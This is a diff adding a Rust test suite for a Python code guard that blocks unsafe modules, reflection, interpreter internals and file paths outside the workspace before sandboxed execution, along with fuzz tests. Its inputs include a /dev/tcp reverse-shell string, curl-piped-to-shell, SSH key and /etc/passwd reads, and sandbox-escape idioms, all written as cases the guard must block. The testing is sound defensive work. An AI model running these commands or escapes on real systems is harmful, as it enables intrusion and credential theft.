@@ -1,0 +1,883 @@
+//! CodeGuard: red-team cases are blocked with the expected rule, the benign
+//! corpus passes untouched, every rule has positive cases and near misses,
+//! hostile input is refused cleanly, and mutated source never breaks it.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+
+use proptest::prelude::*;
+use warden::guard::{CheckContext, Decision, Guard, GuardError, Verdict, render_human};
+
+const WORKSPACE: &str = "/var/lib/warden/sessions/default";
+
+fn guard() -> &'static Guard {
+    static GUARD: OnceLock<Guard> = OnceLock::new();
+    GUARD.get_or_init(|| Guard::with_default_policy().unwrap())
+}
+
+fn ctx() -> CheckContext {
+    CheckContext {
+        workspace: PathBuf::from(WORKSPACE),
+        allowed_roots: vec![PathBuf::from("/data/granted")],
+    }
+}
+
+fn check(src: &str) -> Verdict {
+    guard().check(src.as_bytes(), &ctx())
+}
+
+fn rules(v: &Verdict) -> Vec<&str> {
+    v.findings.iter().map(|f| f.rule.as_str()).collect()
+}
+
+#[track_caller]
+fn assert_blocked(src: &str, rule: &str) {
+    let v = check(src);
+    assert_eq!(
+        v.decision,
+        Decision::Blocked,
+        "not blocked: {src:?}\n{v:#?}"
+    );
+    assert!(
+        !v.retryable_error,
+        "refused instead of judged: {src:?}\n{v:#?}"
+    );
+    assert!(
+        rules(&v).contains(&rule),
+        "expected rule {rule} for {src:?}, got {:?}",
+        rules(&v)
+    );
+}
+
+#[track_caller]
+fn assert_allowed(src: &str) {
+    let v = check(src);
+    assert_eq!(
+        v.decision,
+        Decision::Allowed,
+        "false positive for {src:?}:\n{v:#?}"
+    );
+    assert!(v.findings.is_empty(), "{src:?}: {v:#?}");
+}
+
+#[track_caller]
+fn assert_refused(src: &str, rule: &str) {
+    let v = check(src);
+    assert_eq!(v.decision, Decision::Blocked);
+    assert!(v.retryable_error, "{v:#?}");
+    assert_eq!(rules(&v), vec![rule], "{v:#?}");
+}
+
+fn corpus_dir(kind: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/corpus")
+        .join(kind)
+}
+
+fn corpus_files(kind: &str) -> Vec<(String, Vec<u8>)> {
+    let mut files: Vec<_> = std::fs::read_dir(corpus_dir(kind))
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .filter(|p| p.extension().is_some_and(|x| x == "py"))
+        .map(|p| {
+            let name = p.file_name().unwrap().to_string_lossy().into_owned();
+            (name, std::fs::read(&p).unwrap())
+        })
+        .collect();
+    files.sort();
+    files
+}
+
+// ---- corpora --------------------------------------------------------------
+
+/// The red-team cases the guard must stop (INDEX "should stop" = guard or
+/// both) and the rule expected to fire for each.
+const REDTEAM_EXPECTED: &[(&str, &str)] = &[
+    ("01", "blocked_module"),
+    ("02", "blocked_module"),
+    ("04", "blocked_module"),
+    ("05", "blocked_builtin"),
+    ("07", "blocked_builtin"),
+    ("08", "blocked_module"),
+    ("09", "blocked_module"),
+    ("10", "reflection"),
+    ("12", "module_reexport"),
+    ("14", "internals_attribute"),
+    ("15", "internals_attribute"),
+    ("23", "internals_attribute"),
+    ("24", "internals_attribute"),
+    ("27", "blocked_builtin"),
+    ("31", "blocked_builtin"),
+    ("45", "blocked_module"),
+    ("52", "blocked_module"),
+    ("60", "blocked_module"),
+    ("62", "blocked_module"),
+    ("63", "blocked_module"),
+    ("64", "blocked_attribute"),
+    ("65", "blocked_module"),
+    ("70", "path_outside_workspace"),
+    ("72", "path_outside_workspace"),
+    ("82", "path_outside_workspace"),
+    ("83", "path_outside_workspace"),
+    ("89", "blocked_module"),
+    ("93", "blocked_module"),
+];
+
+/// Case numbers whose INDEX row says the guard (or both layers) should stop it.
+fn guard_cases_from_index() -> Vec<String> {
+    let index = std::fs::read_to_string(corpus_dir("redteam").join("INDEX.md")).unwrap();
+    index
+        .lines()
+        .filter(|l| l.starts_with("| ") && l.contains(".py`"))
+        .filter_map(|l| {
+            let cols: Vec<&str> = l.split('|').map(str::trim).collect();
+            let layer = cols.get(6)?;
+            (*layer == "guard" || *layer == "both").then(|| cols[1].to_string())
+        })
+        .collect()
+}
+
+#[test]
+fn every_guard_redteam_case_is_in_the_table() {
+    let from_index = guard_cases_from_index();
+    assert!(from_index.len() >= 20, "INDEX parse found {from_index:?}");
+    for case in &from_index {
+        assert!(
+            REDTEAM_EXPECTED.iter().any(|(n, _)| n == case),
+            "INDEX says the guard should stop case {case}; add it to REDTEAM_EXPECTED"
+        );
+    }
+}
+
+#[test]
+fn redteam_cases_are_blocked_with_the_expected_rule() {
+    let files = corpus_files("redteam");
+    for (case, rule) in REDTEAM_EXPECTED {
+        let (name, bytes) = files
+            .iter()
+            .find(|(n, _)| n.starts_with(&format!("{case}_")))
+            .unwrap_or_else(|| panic!("redteam case {case} missing"));
+        let v = guard().check(bytes, &ctx());
+        assert_eq!(v.decision, Decision::Blocked, "{name} not blocked:\n{v:#?}");
+        assert!(!v.retryable_error, "{name}: {v:#?}");
+        assert!(
+            rules(&v).contains(rule),
+            "{name}: expected {rule}, got {:?}",
+            rules(&v)
+        );
+    }
+}
+
+#[test]
+fn os_layer_redteam_cases_are_judged_without_errors() {
+    // The OS sandbox owns these; the guard only has to judge them cleanly.
+    for (name, bytes) in corpus_files("redteam") {
+        let v = guard().check(&bytes, &ctx());
+        assert!(!v.retryable_error, "{name}: {v:#?}");
+        assert!(!rules(&v).contains(&"internal_error"), "{name}");
+    }
+}
+
+#[test]
+fn benign_corpus_passes_with_zero_findings() {
+    let files = corpus_files("benign");
+    assert!(files.len() >= 20);
+    for (name, bytes) in files {
+        let v = guard().check(&bytes, &ctx());
+        assert_eq!(v.decision, Decision::Allowed, "{name}:\n{v:#?}");
+        assert!(v.findings.is_empty(), "{name}: {v:#?}");
+    }
+}
+
+// ---- modules and bindings ---------------------------------------------------
+
+#[test]
+fn blocked_modules_in_every_binding_form() {
+    for src in [
+        "import os",
+        "import os.path",
+        "import os as report_utils",
+        "import json, subprocess",
+        "from os import path",
+        "from os.path import join",
+        "from http import client",
+        "import http.client",
+        "import urllib.request",
+        "from urllib import request",
+        "import importlib.util",
+        "from . import os",
+        "from .subprocess import run",
+        "import ｏｓ",
+        "def f():\n    import ctypes\n",
+        "try:\n    import _posixsubprocess\nexcept ImportError:\n    pass\n",
+        "import _frozen_importlib_external",
+        "from builtins import open",
+        "import asyncio.subprocess",
+        "import concurrent.futures.process",
+    ] {
+        assert_blocked(src, "blocked_module");
+    }
+}
+
+#[test]
+fn blocked_module_messages_say_what_to_use_instead() {
+    let v = check("import os");
+    assert!(v.findings[0].message.contains("pathlib"), "{v:#?}");
+    let v = check("from urllib import request");
+    assert!(v.findings[0].message.contains("no network"), "{v:#?}");
+}
+
+#[test]
+fn allowed_modules_stay_allowed() {
+    for src in [
+        "import json",
+        "import http",
+        "from urllib.parse import urlparse",
+        "import asyncio",
+        "import threading",
+        "from concurrent.futures import ThreadPoolExecutor",
+        "import pandas as pd\nimport numpy as np",
+        "from os_helpers import x",
+        "import osmosis",
+        "from __future__ import annotations",
+        "from collections import *",
+        "import string, textwrap, operator, functools",
+    ] {
+        assert_allowed(src);
+    }
+}
+
+#[test]
+fn module_reexports_are_blocked() {
+    for src in [
+        "import glob\nglob.os.system('id')",
+        "import logging\nlogging.os",
+        "import random\nrandom._os",
+        "import tempfile\ntempfile._os",
+        "import typing\ntyping.sys.modules['os']",
+        "from logging import os",
+        "import platform\nplatform.subprocess",
+        "x.builtins",
+    ] {
+        assert_blocked(src, "module_reexport");
+    }
+    for src in ["x.osx = 1", "df.sys_time", "p.ospath", "record.system_name"] {
+        assert_allowed(src);
+    }
+}
+
+#[test]
+fn star_imports_cannot_smuggle_module_names() {
+    assert_blocked(
+        "from helpers import *\nos.system('id')",
+        "unbound_module_name",
+    );
+    assert_blocked("sys.exit(0)", "unbound_module_name");
+    assert_allowed("os = 'linux'\nprint(os)");
+    assert_allowed("def f(sys):\n    return sys + 1\n");
+}
+
+// ---- builtins and names -----------------------------------------------------
+
+#[test]
+fn blocked_builtins_referenced_in_any_form() {
+    for src in [
+        "exec('print(1)')",
+        "eval('1+1')",
+        "compile('1', 'f', 'eval')",
+        "__import__('os')",
+        "globals()['x']",
+        "locals()",
+        "vars()",
+        "vars(obj)",
+        "breakpoint()",
+        "help(len)",
+        "g = eval",
+        "@exec\ndef f():\n    pass\n",
+        "handlers = {'calc': exec}",
+        "list(map(eval, ['1']))",
+        "f = lambda code, run=exec: run(code)",
+        "runners = [exec for _ in range(2)]",
+        "class C:\n    run = exec\n",
+        "ｅｘｅｃ('1')",
+        "b = __builtins__",
+        "del eval",
+        "from pandas import eval",
+    ] {
+        assert_blocked(src, "blocked_builtin");
+    }
+    for src in [
+        "model.eval()",
+        "cursor.execute('SELECT 1')",
+        "import re\npat = re.compile(r'\\d+')",
+        "evaluate = 3\nprint(evaluate)",
+        "exec_time = 3",
+        "eval = 5",
+        "print(open('data.csv').read())",
+        "print(input)",
+        "mv = memoryview(b'abc')",
+    ] {
+        assert_allowed(src);
+    }
+}
+
+#[test]
+fn dunder_names_outside_the_allowlist() {
+    for src in [
+        "class A:\n    def f(self):\n        return __class__\n",
+        "x = __loader__",
+        "__spec__",
+        "__builtins__ = {}",
+        "global __builtins__",
+    ] {
+        let v = check(src);
+        assert_eq!(v.decision, Decision::Blocked, "{src}: {v:#?}");
+    }
+    for src in [
+        "if __name__ == '__main__':\n    print(1)\n",
+        "print(__doc__, __file__)",
+        "__all__ = ['f']",
+        "class V:\n    __slots__ = ('x',)\n    def __add__(self, o):\n        return self\n    __radd__ = __add__\n",
+        "__version__ = '1.0'",
+    ] {
+        assert_allowed(src);
+    }
+}
+
+// ---- attributes -------------------------------------------------------------
+
+#[test]
+fn interpreter_internals_are_blocked() {
+    for src in [
+        "().__class__",
+        "object.__subclasses__()",
+        "f.__globals__",
+        "f.__code__",
+        "x.__dict__",
+        "C.__mro__",
+        "C.__bases__",
+        "C.__base__",
+        "o.__reduce_ex__(2)",
+        "o.__reduce__()",
+        "o.__getattribute__('x')",
+        "print.__self__",
+        "gen.gi_frame",
+        "coro.cr_frame",
+        "agen.ag_frame",
+        "frame.f_back",
+        "frame.f_globals",
+        "frame.f_locals",
+        "frame.f_builtins",
+        "e.__traceback__",
+        "tb.tb_frame",
+        "tb.tb_next",
+        "code.co_code",
+        "x.__ｃlass__",
+        "x.__class__ = Other",
+        "match p:\n    case C(__class__=k):\n        pass\n",
+        "match p:\n    case C(gi_frame=f):\n        pass\n",
+    ] {
+        assert_blocked(src, "internals_attribute");
+    }
+}
+
+#[test]
+fn dunder_methods_and_harmless_dunder_reads_are_allowed() {
+    for src in [
+        "class P:\n    def __init__(self, x):\n        super().__init__()\n        self.x = x\n    def __repr__(self):\n        return f'P({self.x})'\n    def __eq__(self, o):\n        return self.x == o.x\n    def __getattr__(self, n):\n        return 0\n    def __getattribute__(self, n):\n        return 1\n    def __reduce__(self):\n        return (P, (1,))\n",
+        "print(type(e).__name__, e.__cause__, e.__context__)",
+        "print(len.__doc__, f.__qualname__, C.__module__)",
+        "x.__len__()",
+        "import numpy as np\nprint(np.__version__)",
+        "class B(A):\n    def __init_subclass__(cls, **kw):\n        super().__init_subclass__(**kw)\n",
+        "object.__setattr__(self, 'x', 1)",
+        "match p:\n    case Point(x=0, y=y):\n        print(y)\n",
+        "self.__private = 1\nprint(self.__private)",
+        "obj.frame\ndf.f_backup\nitem.code",
+    ] {
+        assert_allowed(src);
+    }
+}
+
+#[test]
+fn dangerous_apis_from_allowed_modules() {
+    for src in [
+        "import asyncio\nasyncio.open_connection('h', 80)",
+        "loop.create_connection(P, 'h', 80)",
+        "import asyncio\nasyncio.create_subprocess_exec('sh')",
+        "from asyncio import open_connection",
+        "from concurrent.futures import ProcessPoolExecutor",
+        "import types\ntypes.CodeType",
+        "from types import FunctionType",
+        "import pandas as pd\npd.read_pickle('x.pkl')",
+        "conn.enable_load_extension(True)",
+    ] {
+        assert_blocked(src, "blocked_attribute");
+    }
+    for src in [
+        "import asyncio\nasyncio.run(asyncio.gather(asyncio.sleep(0)))",
+        "from types import SimpleNamespace\nns = SimpleNamespace(a=1)",
+        "import platform\nprint(platform.system())",
+    ] {
+        assert_allowed(src);
+    }
+}
+
+// ---- reflection ---------------------------------------------------------------
+
+#[test]
+fn reflection_with_computed_or_internal_names_is_blocked() {
+    for src in [
+        "getattr(o, name)",
+        "getattr(o, 'ab' + 'c')",
+        "getattr(o, '__class__')",
+        "getattr(o, '__globals__')",
+        "getattr(glob, 'os')",
+        "getattr(g, 'gi_frame')",
+        "getattr(*args)",
+        "getattr(o, **kw)",
+        "setattr(o, name, 1)",
+        "delattr(o, name)",
+        "hasattr(o, '__dict__')",
+        "hasattr(o, n)",
+        "g = getattr",
+        "list(map(getattr, objs, names))",
+        "import operator\noperator.attrgetter(n)",
+        "import operator\noperator.attrgetter('__class__')",
+        "import operator\noperator.attrgetter('a.__dict__')",
+        "import operator\noperator.methodcaller(n)",
+        "import operator\noperator.methodcaller('__reduce_ex__', 2)",
+        "from operator import attrgetter as ag",
+        "import operator\nag = operator.attrgetter",
+        "b['__import__']",
+        "frame_dict['__builtins__']",
+    ] {
+        assert_blocked(src, "reflection");
+    }
+    for src in [
+        "getattr(o, 'total')",
+        "getattr(o, 'x', None)",
+        "getattr(o, name='total')",
+        "setattr(o, 'count', 1)",
+        "delattr(o, 'cache')",
+        "hasattr(o, 'shape')",
+        "import operator\nkey = operator.attrgetter('name', 'age')",
+        "import operator\nop = operator.methodcaller('strip')",
+        "import operator\nget = operator.itemgetter(1)",
+        "from operator import attrgetter\nby = attrgetter('x.y')",
+        "d['name']",
+        "d['__name__']",
+    ] {
+        assert_allowed(src);
+    }
+}
+
+#[test]
+fn format_string_field_paths() {
+    for src in [
+        "'{0.__class__}'.format(x)",
+        "'{x.__init__.__globals__[os]}'.format(x=f)",
+        "import string\nstring.Formatter().format('{0.__class__.__base__}', 1)",
+        "tmpl = '{0.gi_frame.f_back}'",
+        "'{0:{1.__dict__}}'.format(a, b)",
+    ] {
+        assert_blocked(src, "format_field");
+    }
+    for src in [
+        "'{0.name}'.format(x)",
+        "'{:.2f}'.format(3.14159)",
+        "'{{0.__class__}}'.format(x)",
+        "print(f'{x.real} {y!r:>10}')",
+        "'{0[key]}'.format(d)",
+    ] {
+        assert_allowed(src);
+    }
+}
+
+// ---- paths ------------------------------------------------------------------------
+
+#[test]
+fn paths_outside_the_workspace() {
+    for src in [
+        "open('/etc/passwd')",
+        "open('/tmp/x', 'w')",
+        "open('../secret.txt')",
+        "open('../' * 16 + 'etc/passwd')",
+        "from pathlib import Path\nPath('/').joinpath('tmp')",
+        "import pandas as pd\npd.read_csv('/data/other/x.csv')",
+        "open(file='/srv/x')",
+        "p = '/home/alice/notes.txt'",
+        "open('~/.bashrc')",
+        "open('file:///etc/hosts')",
+        "open(f'/var/log/{name}')",
+        "'/'.join(['', 'etc', 'passwd'])",
+        "open('/var/lib/warden/sessions/other/x')",
+        "open('/var/lib/warden/sessions/default/../other/x')",
+    ] {
+        assert_blocked(src, "path_outside_workspace");
+    }
+    for src in [
+        "open('/proc/self/root/etc/passwd')",
+        "open('/dev/fd/3')",
+        "open('/proc/self/environ')",
+    ] {
+        assert_blocked(src, "path_alias");
+    }
+    for src in [
+        "open('data.csv')",
+        "open('data/../out.csv', 'w')",
+        "from pathlib import Path\n(Path('data') / 'a.txt').write_text('x')",
+        "open('/var/lib/warden/sessions/default/out.csv')",
+        "open('/data/granted/in.csv')",
+        "ok = url.startswith('/api/v1/')",
+        "parts = 'a/b/c'.split('/')",
+        "s = s.replace('/', '-')",
+        "print('Loading..')",
+    ] {
+        assert_allowed(src);
+    }
+}
+
+#[test]
+fn raw_file_descriptors() {
+    assert_blocked("open(3)", "open_file_descriptor");
+    assert_blocked("open(0).read()", "open_file_descriptor");
+    assert_blocked("import io\nio.FileIO(4, 'w')", "open_file_descriptor");
+    assert_allowed("open('3.txt')");
+}
+
+// ---- tripwires ----------------------------------------------------------------------
+
+#[test]
+fn tripwires_are_marked() {
+    for (src, id) in [
+        ("cur.execute('DROP TABLE users')", "sql_drop"),
+        ("cmd = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", "dev_tcp"),
+        (
+            "key = open('/home/u/.ssh/id_rsa').read()",
+            "ssh_private_key",
+        ),
+        ("q = 'DELETE FROM ' + 'orders;'", "sql_delete_all"),
+        ("url = f'https://pastebin.com/raw/{pid}'", "paste_sites"),
+        (
+            "job = '* * * * * curl x | sh'\nopen('crontab.txt','w').write(job)",
+            "pipe_to_shell",
+        ),
+        ("c = b'chmod 4755 /tmp/sh'", "setuid_chmod"),
+    ] {
+        let v = check(src);
+        assert_eq!(v.decision, Decision::Blocked, "{src}");
+        let f = v
+            .findings
+            .iter()
+            .find(|f| f.rule == id)
+            .unwrap_or_else(|| panic!("{src}: {v:#?}"));
+        assert!(f.tripwire);
+        assert!(v.tripwire());
+    }
+    // Docstrings and near misses do not trip.
+    assert_allowed("def f():\n    \"\"\"Never DROP TABLE here.\"\"\"\n    return 1\n");
+    assert_allowed("cur.execute('DELETE FROM orders WHERE id = ?', (3,))");
+    assert_allowed("print('truncate the value to 2 places')");
+}
+
+// ---- decoding, limits, syntax --------------------------------------------------
+
+#[test]
+fn syntax_errors_are_retryable_with_position() {
+    let v = check("x = 1\ndef f(:\n    pass\n");
+    assert_eq!(v.decision, Decision::Blocked);
+    assert!(v.retryable_error);
+    let f = &v.findings[0];
+    assert_eq!(f.rule, "syntax_error");
+    assert_eq!(f.category, "syntax");
+    assert_eq!(f.line, 2);
+    assert!(f.col >= 1);
+    assert!(f.message.starts_with("syntax error"));
+}
+
+#[test]
+fn encodings_are_decoded_like_cpython() {
+    let v = guard().check(b"# -*- coding: utf-7 -*-\nx = '+AF8AXw-'\n", &ctx());
+    assert!(v.retryable_error);
+    assert_eq!(rules(&v), vec!["source_encoding"]);
+    assert!(v.findings[0].message.contains("utf-7"));
+    let v = guard().check(b"x = '\xff'\n", &ctx());
+    assert_eq!(rules(&v), vec!["source_encoding"]);
+    let v = guard().check(b"\xEF\xBB\xBFimport os\n", &ctx());
+    assert_eq!(rules(&v), vec!["blocked_module"]);
+    let v = guard().check(b"# coding: utf8\nprint('ok')\n", &ctx());
+    assert_eq!(v.decision, Decision::Allowed);
+    let v = guard().check(b"x = 1\0\n", &ctx());
+    assert_eq!(rules(&v), vec!["syntax_error"]);
+}
+
+#[test]
+fn oversized_input_is_refused() {
+    let big = format!("x = 1\n{}", "# pad\n".repeat(200_000));
+    assert_refused(&big, "source_too_large");
+}
+
+#[test]
+fn hostile_nesting_is_refused_without_overflow() {
+    let n = 100_000;
+    let cases = [
+        format!("x = {}1{}", "(".repeat(n), ")".repeat(n)),
+        format!("x = {}1{}", "[".repeat(n), "]".repeat(n)),
+        format!("x = {}1{}", "{".repeat(n), "}".repeat(n)),
+        format!("x = 1{}", "+1".repeat(n)),
+        format!("x = a{}", ".b".repeat(n)),
+        format!("x = f{}", "()".repeat(n)),
+        format!("x = {}1", "-".repeat(n)),
+        format!("x = {}1", "not ".repeat(n)),
+        format!("x = {}1", "lambda: ".repeat(n)),
+        format!("x = {}0", "lambda a, b=".repeat(20_000)),
+        format!("x = f'{}'", "{x:".repeat(1000) + &"}".repeat(1000)),
+    ];
+    for src in &cases {
+        let v = check(src);
+        assert_eq!(v.decision, Decision::Blocked, "{}", &src[..40]);
+        assert!(v.retryable_error, "{}", &src[..40]);
+        assert_eq!(rules(&v), vec!["nesting_too_deep"], "{}", &src[..40]);
+    }
+    let mut deep_blocks = String::new();
+    for i in 0..1_000 {
+        deep_blocks.push_str(&" ".repeat(i));
+        deep_blocks.push_str("if x:\n");
+    }
+    assert_refused(&deep_blocks, "nesting_too_deep");
+    let mut ladder = String::from("if x == 0:\n    pass\n");
+    for i in 1..20_000 {
+        ladder.push_str(&format!("elif x == {i}:\n    pass\n"));
+    }
+    assert_refused(&ladder, "nesting_too_deep");
+}
+
+#[test]
+fn moderate_nesting_is_still_judged() {
+    let v = check(&format!("x = {}exec{}", "(".repeat(90), ")".repeat(90)));
+    assert!(rules(&v).contains(&"blocked_builtin"), "{v:#?}");
+    let v = check(&format!("x = 1{}\n", "+1".repeat(500)));
+    assert_eq!(v.decision, Decision::Allowed);
+}
+
+// ---- policy API -----------------------------------------------------------------
+
+#[test]
+fn policy_loading_and_summary() {
+    let s = guard().policy_summary();
+    assert!(s.modules >= 31 && s.builtins >= 11 && s.tripwires >= 21 && s.attributes > 0);
+    let json = serde_json::to_value(&s).unwrap();
+    assert!(json.get("tripwires").is_some());
+
+    let err = Guard::from_policy_file(Path::new("/nonexistent/policy.toml")).unwrap_err();
+    assert!(matches!(err, GuardError::ReadPolicy { .. }));
+    assert!(err.to_string().contains("/nonexistent/policy.toml"));
+
+    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("policies/default.toml");
+    assert!(Guard::from_policy_file(&file).is_ok());
+    assert!(Guard::from_policy_toml("not toml [").is_err());
+}
+
+#[test]
+fn warn_rules_give_restricted() {
+    let text = std::fs::read_to_string(
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("policies/default.toml"),
+    )
+    .unwrap()
+    .replace(
+        "path_outside_workspace = \"block\"",
+        "path_outside_workspace = \"warn\"",
+    );
+    let g = Guard::from_policy_toml(&text).unwrap();
+    let v = g.check(b"open('/etc/hosts')", &ctx());
+    assert_eq!(v.decision, Decision::Restricted);
+    let v = g.check(b"import os\nopen('/etc/hosts')", &ctx());
+    assert_eq!(v.decision, Decision::Blocked);
+    let off = text.replace(
+        "path_outside_workspace = \"warn\"",
+        "path_outside_workspace = \"off\"",
+    );
+    let g = Guard::from_policy_toml(&off).unwrap();
+    assert_eq!(
+        g.check(b"open('/etc/hosts')", &ctx()).decision,
+        Decision::Allowed
+    );
+}
+
+#[test]
+fn verdicts_serialize_in_snake_case_and_render() {
+    let v = check("import os\n");
+    let json = serde_json::to_value(&v).unwrap();
+    assert_eq!(json["decision"], "blocked");
+    assert_eq!(json["findings"][0]["rule"], "blocked_module");
+    assert_eq!(json["findings"][0]["line"], 1);
+    assert_eq!(json["findings"][0]["snippet"], "import os");
+    let text = render_human("x.py", &v);
+    assert!(text.contains("x.py:1:8: [blocked_module/module]"), "{text}");
+    let schema = schemars::schema_for!(Verdict);
+    assert!(
+        serde_json::to_string(&schema)
+            .unwrap()
+            .contains("retryable_error")
+    );
+}
+
+#[test]
+fn findings_are_capped_but_tripwires_survive() {
+    let src = "eval\n".repeat(5_000);
+    let v = check(&src);
+    assert_eq!(v.decision, Decision::Blocked);
+    assert!(v.findings.len() <= 100);
+    let src = format!("{}x = 'DROP TABLE users'\n", "eval\n".repeat(5_000));
+    let v = check(&src);
+    assert!(v.findings.len() <= 100);
+    assert!(v.tripwire(), "{:?}", rules(&v));
+}
+
+// ---- fuzz ---------------------------------------------------------------------------
+
+fn all_corpus() -> &'static Vec<Vec<u8>> {
+    static ALL: OnceLock<Vec<Vec<u8>>> = OnceLock::new();
+    ALL.get_or_init(|| {
+        corpus_files("redteam")
+            .into_iter()
+            .chain(corpus_files("benign"))
+            .map(|(_, b)| b)
+            .collect()
+    })
+}
+
+#[derive(Debug, Clone)]
+enum Mutation {
+    Flip { at: usize, byte: u8 },
+    Truncate { at: usize },
+    DuplicateLine { line: usize },
+    DeleteLine { line: usize },
+    Nest { at: usize, depth: usize, open: u8 },
+    Insert { at: usize, bytes: Vec<u8> },
+}
+
+fn mutation() -> impl Strategy<Value = Mutation> {
+    prop_oneof![
+        (any::<usize>(), any::<u8>()).prop_map(|(at, byte)| Mutation::Flip { at, byte }),
+        any::<usize>().prop_map(|at| Mutation::Truncate { at }),
+        any::<usize>().prop_map(|line| Mutation::DuplicateLine { line }),
+        any::<usize>().prop_map(|line| Mutation::DeleteLine { line }),
+        (
+            any::<usize>(),
+            0usize..400,
+            prop::sample::select(vec![b'(', b'[', b'{', b'"', b'\'', b' '])
+        )
+            .prop_map(|(at, depth, open)| Mutation::Nest { at, depth, open }),
+        (any::<usize>(), prop::collection::vec(any::<u8>(), 0..32))
+            .prop_map(|(at, bytes)| Mutation::Insert { at, bytes }),
+    ]
+}
+
+fn apply(mut src: Vec<u8>, m: &Mutation) -> Vec<u8> {
+    let n = src.len().max(1);
+    match m {
+        Mutation::Flip { at, byte } => {
+            if !src.is_empty() {
+                src[at % n] = *byte;
+            }
+        }
+        Mutation::Truncate { at } => src.truncate(at % n),
+        Mutation::DuplicateLine { line } | Mutation::DeleteLine { line } => {
+            let mut lines: Vec<Vec<u8>> = src.split(|&b| b == b'\n').map(<[u8]>::to_vec).collect();
+            let i = line % lines.len();
+            if matches!(m, Mutation::DuplicateLine { .. }) {
+                let copy = lines[i].clone();
+                lines.insert(i, copy);
+            } else {
+                lines.remove(i);
+            }
+            src = lines.join(&b'\n');
+        }
+        Mutation::Nest { at, depth, open } => {
+            let close = match open {
+                b'(' => b')',
+                b'[' => b']',
+                b'{' => b'}',
+                other => *other,
+            };
+            let at = at % n.min(src.len() + 1);
+            let mut out = src[..at].to_vec();
+            out.extend(std::iter::repeat_n(*open, *depth));
+            out.extend_from_slice(&src[at..]);
+            out.extend(std::iter::repeat_n(close, *depth));
+            src = out;
+        }
+        Mutation::Insert { at, bytes } => {
+            let at = at % (src.len() + 1);
+            src.splice(at..at, bytes.iter().copied());
+        }
+    }
+    src
+}
+
+fn assert_sane(v: &Verdict) {
+    assert!(!rules(v).contains(&"internal_error"), "{v:#?}");
+    if v.retryable_error {
+        assert_eq!(v.decision, Decision::Blocked);
+        assert_eq!(v.findings.len(), 1);
+    }
+    for f in &v.findings {
+        assert!(f.line >= 1 && f.col >= 1);
+    }
+}
+
+proptest! {
+    // 256 cases per property by default; PROPTEST_CASES=20000 for a long run.
+    #![proptest_config(ProptestConfig::default())]
+
+    #[test]
+    fn mutated_corpus_never_panics(
+        file in any::<prop::sample::Index>(),
+        muts in prop::collection::vec(mutation(), 1..6),
+    ) {
+        let corpus = all_corpus();
+        let mut src = corpus[file.index(corpus.len())].clone();
+        for m in &muts {
+            src = apply(src, m);
+        }
+        assert_sane(&guard().check(&src, &ctx()));
+    }
+
+    #[test]
+    fn random_bytes_never_panic(src in prop::collection::vec(any::<u8>(), 0..2048)) {
+        assert_sane(&guard().check(&src, &ctx()));
+    }
+
+    #[test]
+    fn random_python_like_text_never_panics(
+        src in "[a-z_ .,:;=+*()\\[\\]{}'\"\\\\#@0-9\n\t-]{0,600}"
+    ) {
+        assert_sane(&guard().check(src.as_bytes(), &ctx()));
+    }
+}
+
+#[test]
+fn writing_code_files_is_blocked() {
+    for src in [
+        "open('helper.py', 'w').write('x = 1')",
+        "with open('evil.pth', mode='a') as f:\n    f.write('import x')",
+        "from pathlib import Path\nPath('mod.py').write_text('print(1)')",
+        "from pathlib import Path\nPath('pkg/ext.so').write_bytes(b'')",
+        "from pathlib import Path\n(Path('pkg') / '__init__.py').write_text('')",
+        "from pathlib import Path\nPath('m.py').open('w')",
+        "import io\nio.open('m.py', 'w')",
+    ] {
+        assert_blocked(src, "code_file_write");
+    }
+    for src in [
+        "print(open('script.py').read())",
+        "open('report.txt', 'w').write('ok')",
+        "from pathlib import Path\nPath('notes.md').write_text('x')",
+        "from pathlib import Path\nsrc = Path('tool.py').read_text()",
+    ] {
+        assert_allowed(src);
+    }
+}
